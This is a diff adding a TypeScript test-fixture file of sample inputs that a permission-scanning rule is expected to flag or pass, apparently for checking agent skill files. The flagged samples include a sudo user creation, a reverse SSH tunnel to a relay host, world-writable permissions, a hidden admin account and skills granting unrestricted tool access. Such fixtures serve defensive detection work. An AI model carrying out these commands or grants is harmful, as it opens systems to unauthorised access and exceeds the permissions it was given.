@@ -1,0 +1,30 @@
+import type { RuleSamples } from './sample.ts';
+
+export const PERMISSIONS: RuleSamples = {
+  'opens-access': {
+    hits: [
+      'useradd -m -G sudo support',
+      'Grant the account build-bot admin access to the repository.',
+      'Make the bucket public so that links work.',
+      'ssh -R 2222:localhost:22 me@relay.example.net',
+      'Set the permissions of all files to 777.',
+      'Route all traffic through the proxy http://198.51.100.7:8080.',
+      'Add a hidden admin account.',
+    ],
+    misses: ['Ask an administrator to grant you access.', 'chmod 644 a.txt', 'Never make the bucket public.'],
+  },
+  'permission-wider-than-use': {
+    hits: [
+      '---\nname: a\ndescription: Writes haiku.\nallowed-tools: Bash(*), Read\n---\nWrite three lines.\n',
+      '---\nname: a\ndescription: Writes haiku.\nallowed-tools:\n  - "*"\n---\nWrite three lines.\n',
+    ],
+    misses: [
+      '---\nname: a\ndescription: Reads logs.\nallowed-tools: Bash(git log *)\n---\nWrite three lines.\n',
+      '---\nname: a\ndescription: Builds.\nallowed-tools: Bash\n---\n```sh\nmake\n```\n',
+      {
+        'SKILL.md': '---\nname: a\ndescription: Builds.\nallowed-tools: Bash\n---\nUse the script.\n',
+        'scripts/a.sh': 'make\n',
+      },
+    ],
+  },
+};
